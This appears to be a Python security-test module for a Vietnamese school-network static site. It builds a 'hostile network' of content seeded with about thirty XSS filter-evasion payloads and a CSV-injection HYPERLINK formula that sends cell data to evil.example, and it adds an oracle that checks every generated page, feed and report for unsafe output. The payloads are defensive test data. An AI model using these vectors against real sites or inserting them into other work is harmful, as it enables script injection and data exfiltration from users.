"""The attack suite's payloads and its oracle: rules any output must obey, whatever the input.

The payloads are classic XSS filter-evasion vectors (OWASP cheat sheet families: tag and
attribute break-outs, encoded schemes, mutation XSS through SVG/MathML, pre-escaped and
many-times-escaped markup, CDATA and script-context break-outs, bidi overrides). Each calls
``alert("ESX<n>")`` so a browser test can also tell which one ran.

The oracle does not look for the payloads: it checks every output file against rules (escape,
confine, refuse):

* HTML: every ``<script>`` is one of the theme's files (``src``, no body) or a JSON data block
  that parses; no ``on*`` attribute anywhere; every URL attribute is http(s), mailto, tel or
  relative; no element outside the allow-list (no iframe/object/embed/base/frame, no meta
  refresh, forms only to the site itself); no style that loads or runs anything; the
  Content-Security-Policy meta on every page.
* XML feeds and sitemaps: well-formed without a DTD; text fields hold no markup; HTML fields obey
  the HTML rules; links are http(s) and hold no character that breaks out of anything.
* JSON (search indexes, manifests): parses; no string is a script URL.
* CSV/XLSX reports: no cell a spreadsheet would run as a formula.
"""

from __future__ import annotations

import json
import re
import shutil
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import yaml

REPO = Path(__file__).resolve().parents[2]

PAYLOADS = [
    '</title><script>alert("ESX1")</script>',
    '"><img src=x onerror=alert("ESX2")>',
    "'><svg/onload=alert('ESX3')>",
    'javascript:alert("ESX4")',
    "<iframe src=\"javascript:alert('ESX5')\"></iframe>",
    '&lt;script&gt;alert("ESX6")&lt;/script&gt;',
    "&amp;amp;amp;amp;lt;script&amp;amp;amp;amp;gt;alert(ESX7)&amp;amp;amp;amp;lt;/script&amp;amp;amp;amp;gt;",
    "<a href=\"jav&#x09;ascript:alert('ESX8')\">x</a>",
    '<math><mtext><table><mglyph><style><img src=x onerror=alert("ESX9")>',
    '</script><script>alert("ESX10")</script>',
    ']]><script>alert("ESX11")</script><![CDATA[',
    '<body onload=alert("ESX12")>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(\'ESX13\')">',
    '<base href="https://evil.example/">',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgnRVNYMTQnKTwvc2NyaXB0Pg=="></object>',
    "<img src=\"x` `<script>alert('ESX15')</script>\"` `>",
    "<div style=\"background:url(javascript:alert('ESX16'))\">x</div>",
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(17)">ESX17</a>',
    "\u202eESX18 gnp.exe \u200b",
    '<form action="https://evil.example/"><button formaction="javascript:alert(\'ESX19\')">x</button></form>',
    "{{ 7*7 }}{% raw %}ESX20",
    "<svg><a xlink:href=\"javascript:alert('ESX21')\"><text>x</text></a></svg>",
    '<details open ontoggle=alert("ESX22")>',
    '<img src=x:alert(alt) onerror=eval(src) alt="ESX23">',
    '<input autofocus onfocus=alert("ESX24")>',
    '<a href="data:text/html,<script>alert(25)</script>">ESX25</a>',
    "<embed src=\"javascript:alert('ESX26')\">",
    '<link rel="stylesheet" href="https://evil.example/ESX27.css">',
    "<!--<img src=--><img src=x onerror=alert('ESX28')//-->",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('ESX29')>\">",
]
TEXT = " ".join(PAYLOADS[:4])  # a hostile one-line value for text fields
#: What a unit's config may hold (its text fields refuse tags): quotes, ampersands, braces,
#: backslashes and angle brackets that open no tag.
CONFIG_TEXT = "\"Kim Đồng\" & 'Bông' {{ 7*7 }} 1 < 2 > 0 d \\ `x`"


# -- the oracle ----------------------------------------------------------------------------------

#: Elements a page may contain (the theme's, Material's, and the body allow-list).
ALLOWED_ELEMENTS = set(
    [
        "html",
        "head",
        "body",
        "meta",
        "title",
        "link",
        "style",
        "script",
        "noscript",
        "div",
        "span",
        "a",
        "p",
        "h1",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "ul",
        "ol",
        "li",
        "nav",
        "header",
        "footer",
        "main",
        "section",
        "article",
        "aside",
        "figure",
        "figcaption",
        "img",
        "picture",
        "source",
        "time",
        "table",
        "thead",
        "tbody",
        "tfoot",
        "tr",
        "th",
        "td",
        "caption",
        "colgroup",
        "col",
        "form",
        "input",
        "label",
        "button",
        "select",
        "option",
        "fieldset",
        "legend",
        "details",
        "summary",
        "dl",
        "dt",
        "dd",
        "small",
        "strong",
        "em",
        "b",
        "i",
        "u",
        "s",
        "sub",
        "sup",
        "code",
        "pre",
        "kbd",
        "samp",
        "var",
        "mark",
        "abbr",
        "cite",
        "q",
        "blockquote",
        "br",
        "hr",
        "wbr",
        "del",
        "ins",
        "svg",
        "path",
        "g",
        "circle",
        "rect",
        "polygon",
        "polyline",
        "line",
        "ellipse",
        "dialog",
        "video",
        "audio",
        "track",
        "bdi",
        "bdo",
        "ruby",
        "rt",
        "rp",
        "rtc",
        "data",
        "dfn",
        "center",
        "strike",
        "tt",
        "acronym",
        "hgroup",
        "address",
        "big",
        "text",
        "tspan",
        "desc",
    ]  # text/tspan/desc: SVG charts of reports
)
FORBIDDEN_ELEMENTS = {"iframe", "frame", "frameset", "object", "embed", "applet", "base", "portal"}
URL_ATTRIBUTES = {
    "href", "src", "action", "formaction", "poster", "cite", "data", "background", "xlink:href",
    "ping", "manifest", "longdesc", "lowsrc", "dynsrc", "codebase", "data-es-embed",
}  # fmt: skip
_SCHEME_RE = re.compile(r"^([a-zA-Z][a-zA-Z0-9+.-]*):")
_INVISIBLE = re.compile(r"[\x00-\x20\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff]")
_BAD_STYLE = re.compile(
    r"url\s*\(|expression\s*\(|javascript:|@import|behavior\s*:|-moz-binding", re.I
)
SAFE_SCHEMES = {"http", "https", "mailto", "tel"}


def url_problem(value: str, *, schemes: set[str] = SAFE_SCHEMES) -> str | None:
    """Why a URL attribute value is unsafe, or ``None``."""
    bare = _INVISIBLE.sub("", value)
    m = _SCHEME_RE.match(bare)
    if m and m.group(1).lower() not in schemes:
        return f"scheme {m.group(1)!r}"
    if any(c in value for c in '"<>`\\') or "\n" in value:
        return "character that breaks out"
    return None


class _PageOracle(HTMLParser):
    def __init__(self, *, fragment: bool) -> None:
        super().__init__(convert_charrefs=True)
        self.fragment = fragment
        self.problems: list[str] = []
        self.stack: list[str] = []
        self.script: dict[str, str] | None = None
        self.script_body: list[str] = []
        self.style_body: list[str] | None = None
        self.csp = ""
        self.in_head = False

    def error(self, what: str) -> None:
        self.problems.append(what)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._element(tag, attrs)
        if tag not in ("br", "hr", "img", "meta", "link", "input", "source", "track", "wbr", "col"):
            self.stack.append(tag)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._element(tag, attrs)
        if tag == "script":
            self._end_script()

    def _element(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        a = {k.lower(): (v or "") for k, v in attrs}
        if tag in FORBIDDEN_ELEMENTS:
            self.error(f"<{tag}> element")
        elif tag not in ALLOWED_ELEMENTS:
            self.error(f"unknown element <{tag}>")
        for name, value in a.items():
            if name.startswith("on"):
                self.error(f"<{tag} {name}=…> event handler")
            if name in URL_ATTRIBUTES:
                why = url_problem(value)
                if why:
                    self.error(f"<{tag} {name}={value[:80]!r}>: {why}")
            if name == "srcset":
                for part in value.split(","):
                    why = url_problem(part.strip().split(" ")[0]) if part.strip() else None
                    if why:
                        self.error(f"<{tag} srcset={value[:80]!r}>: {why}")
            if name == "style" and _BAD_STYLE.search(value):
                self.error(f"<{tag} style={value[:80]!r}>")
        if tag == "meta" and a.get("http-equiv", "").lower() in ("refresh", "set-cookie"):
            self.error(f"<meta http-equiv={a['http-equiv']}>")
        if tag == "meta" and a.get("http-equiv", "").lower() == "content-security-policy":
            self.csp = a.get("content", "")
        if tag == "form":
            action = a.get("action", "")
            if (
                _SCHEME_RE.match(action)
                or action.startswith("//")
                or a.get("method", "get") != "get"
            ):
                self.error(f"<form action={action!r}> leaves the site")
        if tag == "link" and a.get("rel", "").lower() in ("import", "prerender"):
            self.error(f"<link rel={a['rel']}>")
        if tag == "script":
            self.script = a
            self.script_body = []
        if tag == "style":
            self.style_body = []

    def handle_endtag(self, tag: str) -> None:
        if tag == "script" and self.script is not None:
            self._end_script()
        if tag == "style" and self.style_body is not None:
            css = "".join(self.style_body)
            if _BAD_STYLE.search(css):
                self.error(f"<style> that loads or runs something: {css[:80]!r}")
            self.style_body = None
        if tag in self.stack:
            while self.stack and self.stack.pop() != tag:
                pass

    def _end_script(self) -> None:
        a, body = self.script or {}, "".join(self.script_body).strip()
        self.script = None
        src = a.get("src")
        kind = a.get("type", "").lower()
        if src is not None:
            if body:
                self.error("<script src> with an inline body")
            if (
                _SCHEME_RE.match(src)
                or src.startswith("//")
                or not src.split("?")[0].endswith(".js")
            ):
                self.error(f"<script src={src[:80]!r}> not one of the site's own scripts")
        elif kind in ("application/ld+json", "application/json"):
            try:
                json.loads(body)
            except ValueError:
                self.error(f"<script type={kind}> whose body is not JSON: {body[:80]!r}")
            if "</" in body:
                self.error("JSON data block holding '</'")
        else:
            self.error(f"inline <script>: {body[:80]!r}")

    def handle_data(self, data: str) -> None:
        if self.script is not None:
            self.script_body.append(data)
        elif self.style_body is not None:
            self.style_body.append(data)


def html_problems(text: str, *, fragment: bool = False) -> list[str]:
    """Every rule a page (or, with ``fragment``, an HTML field of a feed) breaks."""
    oracle = _PageOracle(fragment=fragment)
    oracle.feed(text)
    oracle.close()
    if oracle.script is not None:
        oracle.error("unterminated <script>")
    if not fragment:
        csp = oracle.csp
        for need in (
            "script-src 'self'",
            "object-src 'none'",
            "base-uri 'self'",
            "form-action 'self'",
        ):
            if need not in csp:
                oracle.error(f"Content-Security-Policy lacks {need!r}: {csp[:120]!r}")
        script_src = re.search(r"script-src([^;]*)", csp)
        if script_src and (
            "unsafe-inline" in script_src.group(1) or "unsafe-eval" in script_src.group(1)
        ):
            oracle.error("Content-Security-Policy allows inline script")
    return oracle.problems


_TAG_RE = re.compile(r"<\s*[a-zA-Z/!?]")
_HTML_FIELDS = {"description", "content", "summary", "encoded"}
_TEXT_FIELDS = {"title", "name", "category", "creator", "author", "subtitle", "rights"}
_URL_FIELDS = {"link", "loc", "url", "comments", "docs", "uri"}


def xml_problems(data: bytes) -> list[str]:
    """Every rule a feed or sitemap breaks (see the module docstring)."""
    import defusedxml.ElementTree as DET

    try:
        root = DET.fromstring(data, forbid_dtd=True)
    except Exception as exc:  # noqa: BLE001 - any parse failure is the finding
        return [f"not well-formed XML without a DTD: {exc}"]
    out: list[str] = []
    for el in root.iter():
        local = el.tag.rsplit("}", 1)[-1].lower() if isinstance(el.tag, str) else ""
        text = el.text or ""
        kind = (el.get("type") or "").lower()
        if local in _HTML_FIELDS or (
            local in ("summary", "content", "title") and kind in ("html", "xhtml")
        ):
            if local == "title":
                out += [f"<title type={kind}>: HTML title"]
            out += [f"<{local}>: {p}" for p in html_problems(text, fragment=True)]
        elif local in _TEXT_FIELDS and _TAG_RE.search(text):
            out.append(f"<{local}> text holds markup: {text[:80]!r}")
        if local in _URL_FIELDS and text.strip():
            why = url_problem(text.strip(), schemes={"http", "https"})
            if why:
                out.append(f"<{local}>{text[:80]!r}: {why}")
        if local in ("guid", "id") and _SCHEME_RE.match(text.strip()):
            scheme = _SCHEME_RE.match(text.strip()).group(1).lower()  # type: ignore[union-attr]
            if scheme in ("javascript", "data", "vbscript"):
                out.append(f"<{local}>{text[:80]!r}: script URL")
        for attr in ("href", "url", "src"):
            value = el.get(attr)
            if value is not None:
                why = url_problem(value, schemes={"http", "https"})
                if why:
                    out.append(f"<{local} {attr}={value[:80]!r}>: {why}")
        term = el.get("term") or el.get("label")
        if term and _TAG_RE.search(term):
            out.append(f"<{local} term/label> holds markup: {term[:80]!r}")
    return out


def json_problems(data: bytes) -> list[str]:
    """Every rule a JSON file breaks: it parses, and no string in it is a script URL."""
    try:
        value = json.loads(data)
    except ValueError as exc:
        return [f"not JSON: {exc}"]
    out: list[str] = []

    def walk(v: Any) -> None:
        if isinstance(v, str):
            m = _SCHEME_RE.match(_INVISIBLE.sub("", v))
            if m and m.group(1).lower() in ("javascript", "data", "vbscript"):
                out.append(f"script URL in JSON: {v[:80]!r}")
        elif isinstance(v, dict):
            for k, x in v.items():
                walk(k)
                walk(x)
        elif isinstance(v, list):
            for x in v:
                walk(x)

    walk(value)
    return out


_FORMULA = ("=", "+", "-", "@", "\t", "\r")


def cell_problem(value: Any) -> str | None:
    """Why a spreadsheet cell would be run as a formula, or ``None``."""
    if isinstance(value, str) and value.startswith(_FORMULA):
        try:
            float(value)
        except ValueError:
            return f"formula-like cell {value[:60]!r}"
    return None


def tree_problems(public: Path) -> dict[str, list[str]]:
    """Every rule broken by every output file below ``public`` (by relative path)."""
    import csv
    import gzip
    import io

    found: dict[str, list[str]] = {}
    for path in sorted(public.rglob("*")):
        if not path.is_file() or path.is_symlink():
            if path.is_symlink():
                found[str(path.relative_to(public))] = ["symbolic link in the output"]
            continue
        rel = str(path.relative_to(public))
        suffix = path.suffix.lower()
        data = path.read_bytes()
        if suffix == ".gz":
            data, suffix = gzip.decompress(data), Path(path.stem).suffix.lower()
        problems: list[str] = []
        if suffix == ".html":
            problems = html_problems(data.decode("utf-8"))
        elif suffix == ".xml":
            problems = xml_problems(data)
        elif suffix == ".json":
            problems = json_problems(data)
        elif suffix == ".csv":
            rows = csv.reader(io.StringIO(data.decode("utf-8-sig")))
            problems = [p for row in rows for c in row if (p := cell_problem(c))]
        elif suffix in (
            ".svg",
            ".htm",
            ".xhtml",
            ".shtml",
            ".php",
            ".phtml",
        ) and not rel.startswith(
            "_shared/"  # the theme's own files (trusted)
        ):
            problems = [f"{suffix} file published"]
        if problems:
            found[rel] = problems
    return found


# -- the hostile network -------------------------------------------------------------------------

UNITS = ("so-gddt", "phong-gd-song-cau", "th-kim-dong")
#: A spreadsheet formula (CSV injection) as a group name, title and author.
FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Bấm vào đây")'

SCHOOL = "th-kim-dong"


def body(extra: str = "") -> str:
    """A Markdown body carrying every payload, in the places Markdown lets raw HTML through."""
    lines = [
        "Bài viết thử nghiệm an toàn.",
        "",
        '<iframe src="https://www.youtube.com/embed/ESX46" title="Video ESX46" width="560" height="315"></iframe>',
        '<iframe src="https://evil.example/ESX47"></iframe>',
        "",
    ]
    lines += [f"{p}" for p in PAYLOADS]
    lines += [
        "",
        f"## Tiêu đề {PAYLOADS[1]}",
        "",
        "| Cột A | Cột B |",
        "|---|---|",
        f"| {PAYLOADS[2]} | {PAYLOADS[7]} |",
        "",
        "[liên kết](javascript:alert('ESX40')) [liên kết 2](data:text/html,ESX41)",
        "![ảnh](javascript:alert('ESX42'))",
        "",
        "Đoạn có thuộc tính {: onclick=\"alert('ESX43')\" }",
        '{: onclick="alert(\'ESX44\')" style="background:url(javascript:x)" }',
        "",
        '<div markdown="1" onmouseover="alert(\'ESX45\')">**md_in_html**</div>',
        "",
        extra,
    ]
    return "\n".join(lines) + "\n"


def front(meta: dict[str, Any]) -> str:
    return "---\n" + yaml.safe_dump(meta, allow_unicode=True, sort_keys=False) + "---\n\n"


def make_hostile_network(root: Path, remote_feed: str | None = None) -> Path:
    """The demo's Sở, Phòng and Kim Đồng school with every field an editor controls hostile."""
    root.mkdir(parents=True, exist_ok=True)
    shutil.copy(REPO / "mkdocs.yml", root / "mkdocs.yml")
    (root / "shared-theme").symlink_to(REPO / "shared-theme", target_is_directory=True)
    for uid in UNITS:
        shutil.copytree(REPO / "sites" / uid, root / "sites" / uid)
        shutil.copytree(REPO / "content" / uid, root / "content" / uid)
    # The school's own config: every text field hostile (URLs must stay valid to be accepted).
    cfg_path = root / "sites" / SCHOOL / "mkdocs.yml"
    cfg = yaml.safe_load(cfg_path.read_text(encoding="utf-8"))
    unit = cfg["extra"]["unit"]
    cfg["site_name"] = f"Trường Kim Đồng {CONFIG_TEXT}"
    cfg["site_description"] = f"Mô tả {CONFIG_TEXT}"
    unit["name"] = f"{FORMULA} Trường Tiểu học Kim Đồng {CONFIG_TEXT}"
    unit["short_name"] = f"TH Kim Đồng {CONFIG_TEXT}"
    unit["address"] = f"Số 45 {CONFIG_TEXT}"
    unit["editor"] = {"name": f"Cô Hạnh {CONFIG_TEXT}", "title": f"Hiệu trưởng {CONFIG_TEXT}"}
    unit["groups"] = [*unit["groups"], f"Tổ {CONFIG_TEXT}", FORMULA]
    unit["quick_links"] = [{"title": f"Cổng {CONFIG_TEXT}", "url": 'https://dvc.example.vn/a"b<c>'}]
    cfg_path.write_text(yaml.safe_dump(cfg, allow_unicode=True, sort_keys=False), encoding="utf-8")
    if remote_feed:
        portal_cfg = root / "sites" / "phong-gd-song-cau" / "mkdocs.yml"
        pc = yaml.safe_load(portal_cfg.read_text(encoding="utf-8"))
        pc["extra"]["unit"]["rollup"]["remote"] = [
            {"id": "xa-ngoai", "name": f"Trường ngoài {CONFIG_TEXT}", "feed": remote_feed}
        ]
        portal_cfg.write_text(
            yaml.safe_dump(pc, allow_unicode=True, sort_keys=False), encoding="utf-8"
        )

    content = root / "content" / SCHOOL
    post_dir = content / "tin-tuc/2026/2026-11-20-bai-thu-an-toan"
    post_dir.mkdir(parents=True)
    shutil.copy(next((REPO / "content" / SCHOOL).rglob("*.jpg")), post_dir / "anh.jpg")
    (post_dir / "index.md").write_text(
        front(
            {
                "title": f"{PAYLOADS[0]} {PAYLOADS[6]} Bài thử",
                "date": "2026-11-20 08:00",
                "summary": f"Tóm tắt {PAYLOADS[1]} {PAYLOADS[5]} {PAYLOADS[18]}",
                "image": "anh.jpg",
                "image_alt": f"Ảnh {PAYLOADS[1]}",
                "categories": ["tin-tuc-su-kien", "thong-bao"],
                "author": f"Tác giả {PAYLOADS[2]}",
                "group": f"Tổ {CONFIG_TEXT}",
                "featured": True,
            }
        )
        + body(),
        encoding="utf-8",
    )
    second = content / "tin-tuc/2026/2026-11-19-bai-bang-tinh"
    second.mkdir(parents=True)
    (second / "index.md").write_text(
        front({"title": FORMULA, "date": "2026-11-19", "group": FORMULA, "author": FORMULA})
        + "Nội dung.\n",
        encoding="utf-8",
    )
    # Pages other than posts: about page, a disclosure section page, a document, an album.
    (content / "gioi-thieu/index.md").write_text(
        front({"title": f"Giới thiệu {PAYLOADS[0]}", "description": f"Mô tả {PAYLOADS[1]}"})
        + body(),
        encoding="utf-8",
    )
    section = content / "cong-khai/2026-2027/thong-tin-chung.md"
    text = section.read_text(encoding="utf-8")
    head, rest = text.split("\n---\n", 1)
    meta = yaml.safe_load(head.removeprefix("---\n"))
    meta["title"] = f"Thông tin chung {PAYLOADS[0]}"
    section.write_text(front(meta) + rest + "\n" + body(), encoding="utf-8")
    doc = content / "van-ban/2026/van-ban-thu-an-toan.md"
    doc.parent.mkdir(parents=True, exist_ok=True)
    doc.write_text(
        front(
            {
                "so_hieu": "99/KH-THKD",
                "ngay_ban_hanh": "2026-11-02",
                "co_quan_ban_hanh": f"Trường {PAYLOADS[1]}",
                "loai_van_ban": "Kế hoạch",
                "trich_yeu": f"Kế hoạch {PAYLOADS[0]}",
                "linh_vuc": f"Lĩnh vực {PAYLOADS[2]}",
                "tep": ['https://vanban.example.vn/a"b<c>.pdf'],
            }
        )
        + body(),
        encoding="utf-8",
    )
    album = next((content / "thu-vien-anh").iterdir())
    index = album / "index.md"
    text = index.read_text(encoding="utf-8")
    head, rest = text.split("\n---\n", 1)
    meta = yaml.safe_load(head.removeprefix("---\n"))
    meta["title"] = f"Album {PAYLOADS[0]}"
    meta["description"] = f"Mô tả {PAYLOADS[1]}"
    first = sorted(p.name for p in album.glob("*.jpg"))[0]
    meta["captions"] = {first: f"Chú thích {PAYLOADS[2]} {PAYLOADS[0]}"}
    index.write_text(front(meta) + rest, encoding="utf-8")
    return root


def hostile_rss(base: str) -> bytes:
    """A remote member's feed whose links, enclosure and texts try to break out of markup."""
    bad_link = 'https://xa.example.vn/bai"><script>alert("ESX60")</script>'
    return f"""<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0"><channel>
<title>Trường ngoài &lt;script&gt;alert("ESX61")&lt;/script&gt;</title>
<link>{_x(bad_link)}</link>
<description>x</description>
<item>
  <title>&amp;amp;amp;amp;lt;script&amp;amp;amp;amp;gt;alert("ESX62")&amp;amp;amp;amp;lt;/script&amp;amp;amp;amp;gt;</title>
  <link>{_x(bad_link)}</link>
  <guid isPermaLink="false">javascript:alert("ESX63")</guid>
  <pubDate>Thu, 19 Nov 2026 08:00:00 +0700</pubDate>
  <enclosure url="{_x('https://xa.example.vn/a.jpg" onerror="alert(1)')}" type="image/jpeg" length="1"/>
  <description>{_x(body())}</description>
</item>
<item>
  <title>Bài \u202egnp.exe</title>
  <link>javascript:alert("ESX64")</link>
  <pubDate>Wed, 18 Nov 2026 08:00:00 +0700</pubDate>
  <description>&lt;img src=x onerror=alert("ESX65")&gt;</description>
</item>
</channel></rss>""".encode()


def _x(text: str) -> str:
    from xml.sax.saxutils import escape

    return escape(text, {'"': "&quot;"})
